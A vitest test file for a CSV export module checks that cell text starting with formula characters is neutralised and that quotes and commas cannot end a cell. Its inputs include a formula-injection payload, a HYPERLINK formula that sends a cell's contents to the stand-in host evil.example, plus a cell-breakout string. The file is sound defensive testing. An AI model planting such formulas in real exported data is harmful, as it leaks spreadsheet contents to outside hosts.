import { expect, test } from 'vitest';
import { csvCell, csvLine } from './csv.ts';

test.each([
  ['=1+1', `"'=1+1"`],
  ['+1', `"'+1"`],
  ['-1', `"'-1"`],
  ['@SUM(A1)', `"'@SUM(A1)"`],
  ['\t=1', `"'\t=1"`],
  ['\r=1', `"'\r=1"`],
  ['\n=1', `"'\n=1"`],
  ['\uff1d1', `"'\uff1d1"`],
  ['=HYPERLINK("http://evil.example?"&A1,"x")', `"'=HYPERLINK(""http://evil.example?""&A1,""x"")"`],
])('no cell begins a formula: %j', (text, cell) => {
  expect(csvCell(text)).toBe(cell);
});

test('quotes are doubled and separators stay inside, so that no text ends its cell', () => {
  expect(csvLine(['a"b', 'c,d', 'e\r\nf', null, ''])).toBe('"a""b","c,d","e\r\nf","",""\r\n');
  expect(csvLine(['x","=1'])).toBe('"x"",""=1"\r\n');
});
